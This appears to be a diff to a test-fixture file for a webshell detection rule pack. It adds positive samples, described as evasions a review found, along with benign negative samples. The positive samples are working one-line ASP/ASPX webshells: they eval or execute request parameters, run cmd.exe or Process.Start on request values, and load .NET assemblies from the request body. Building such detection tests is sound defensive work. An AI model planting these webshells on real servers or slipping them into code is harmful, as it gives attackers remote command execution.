@@ -139,6 +139,32 @@ POSITIVE = {
         "exhunt_webshell_eval_request",
     ),
     "png_polyglot": ('\x89PNG\r\n\x1a\n....<%execute request("a")%>', "exhunt_webshell_image_polyglot"),
+    # a review's evasions, each of which the pack had missed
+    "jscript_unsafe_in_a_variable": (
+        '<%@ Page Language="Jscript"%><% var a=Request.Item["z"],u="unsafe";eval(a,u); %>',
+        "exhunt_webshell_eval_request",
+    ),
+    "jscript_unsafe_after_a_semicolon_string": (
+        '<%@ Page Language="Jscript"%><% var a=Request.Item["z"]; eval(a+";","unsafe"); %>',
+        "exhunt_webshell_eval_request",
+    ),
+    "vbs_execute_var_in_brackets": ('<% x=request("pass"):execute(x) %>', "exhunt_webshell_eval_request"),
+    "process_start_of_request_values": (
+        '<%@ Page Language="C#"%><% System.Diagnostics.Process.Start(Request["f"], Request["a"]); %>',
+        "exhunt_webshell_process_from_page",
+    ),
+    "vb_shell_of_request": (
+        '<%@ Page Language="VB"%><% Shell("cmd.exe /c " & Request("c")) %>', "exhunt_webshell_process_from_page"),
+    "assembly_from_the_request_body": (
+        '<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Request.BinaryRead(Request.ContentLength))'
+        '.CreateInstance("U").Equals(this); %>',
+        "exhunt_webshell_assembly_loader",
+    ),
+    "assembly_from_the_input_stream": (
+        '<%@ Page Language="C#"%><% var m = new System.IO.MemoryStream(); Request.InputStream.CopyTo(m); '
+        'System.Reflection.Assembly.Load(m.ToArray()).CreateInstance("U").Equals(this); %>',
+        "exhunt_webshell_assembly_loader",
+    ),
     # a hidden eval written after 200 KB of padding: the size bound alone had let it pass
     "jscript_concat_eval_after_padding": (
         '<%@ Page Language="C#"%><!--' + "x" * (205 << 10) + '--><script language="JScript" runat="server">'
@@ -156,6 +182,12 @@ NEGATIVE = {
     "js_eval_no_server": "<script>eval(location.hash.substr(1))</script>",
     "process_type_name_only": '<%@ Page Language="C#" %><% var n = "System.Diagnostics.Process"; '
     "Response.Write(n + Request.Form[\"x\"]); %>",
+    "jscript_two_argument_call_without_unsafe": '<%@ Page Language="Jscript"%><% var s = f(a, b); '
+    'Response.Write(Request.Item["n"]); %>',
+    "process_start_of_a_fixed_program": '<%@ Page Language="C#"%><% Process.Start("notepad.exe"); '
+    'var q = Request["q"]; %>',
+    "assembly_load_of_a_resource": '<%@ Page Language="C#"%><% var s = GetType().Assembly.GetManifestResourceStream'
+    '("x"); var a = Assembly.Load(bytes.ToArray()); %>',
     "concat_eval_in_a_large_page_without_request": '<%@ Page Language="C#" %><!--' + "x" * (205 << 10)
     + '--><script>var f = window["ev" + "al"];</script>',
     "reflection_without_request": '<%@ Page Language="C#" %><% Type.GetType("System.Diagnostics.Process")'
